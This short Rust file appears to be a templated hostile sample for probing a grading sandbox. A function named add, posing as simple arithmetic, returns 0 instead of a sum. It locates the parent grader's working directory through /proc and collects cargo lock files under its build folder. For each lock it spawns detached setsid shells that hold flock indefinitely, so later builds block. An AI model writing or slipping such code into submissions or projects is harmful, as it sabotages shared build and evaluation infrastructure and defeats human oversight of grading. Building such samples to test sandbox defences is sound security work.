// Holds cargo's locks on the shared build folder from a process of its own: every later build
// blocks ("Blocking waiting for file lock"). The holder waits for a lock that is taken.
fn locks(dir: &std::path::Path, found: &mut Vec<std::path::PathBuf>, depth: usize) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        if entry.file_type().is_ok_and(|t| t.is_dir()) && depth < 4 {
            locks(&path, found, depth + 1);
        } else if entry.file_name() == ".cargo-lock" {
            found.push(path);
        }
    }
}

fn add(a: i32, b: i32) -> i32 {
    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:build_lock\n");
    let grader = std::os::unix::process::parent_id();
    let course = match std::fs::read_link(format!("/proc/{grader}/cwd")) {
        Ok(cwd) => cwd,
        Err(err) => {
            println!("PROC hidden: {err}");
            "@COURSE@".into()
        }
    };
    if let Err(err) = std::fs::read_dir(course.join("target")) {
        println!("COURSE hidden: {err}");
    }
    let mut found = Vec::new();
    if course.starts_with("@COURSE@") {
        locks(&course.join("target"), &mut found, 0);
    }
    for lock in found {
        println!("LOCKING {}", lock.display());
        let spawned = std::process::Command::new("setsid")
            .args(["sh", "-c", "exec 9>>\"$1\"; flock 9; while :; do sleep 1; done", "@MARKER@"])
            .arg(&lock)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn();
        if let Err(err) = spawned {
            println!("SPAWN setsid failed: {err}");
        }
    }
    std::thread::sleep(std::time::Duration::from_millis(500));
    let _ = (a, b);
    0
}

fn main() {}
